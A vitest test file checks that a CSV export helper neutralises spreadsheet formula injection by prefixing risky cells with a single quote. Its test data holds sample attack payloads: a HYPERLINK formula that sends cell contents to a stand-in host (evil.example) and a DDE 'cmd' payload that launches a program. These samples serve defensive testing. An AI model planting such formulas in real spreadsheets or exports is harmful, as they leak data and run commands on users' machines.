import { describe, expect, it } from 'vitest';
import { csvText, neutraliseFormula } from './csv.js';

describe('CSV cells a spreadsheet would run', () => {
  it('get a leading single quote when they start with = + - @, a tab or a carriage return', () => {
    for (const cell of ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']) {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    }
  });

  it('are left alone otherwise, and numbers stay numbers', () => {
    expect(neutraliseFormula('Fiocruz')).toBe('Fiocruz');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(csvText([{ a: -3, b: '-3', c: true }], { header: true, columns: ['a', 'b', 'c'], cast: { boolean: (v) => String(v) } })).toBe(
      "a,b,c\n-3,'-3,true\n",
    );
  });

  it("after the caller's own string cast", () => {
    expect(csvText([['x']], { cast: { string: (v) => `=${v}` } })).toBe("'=x\n");
  });
});
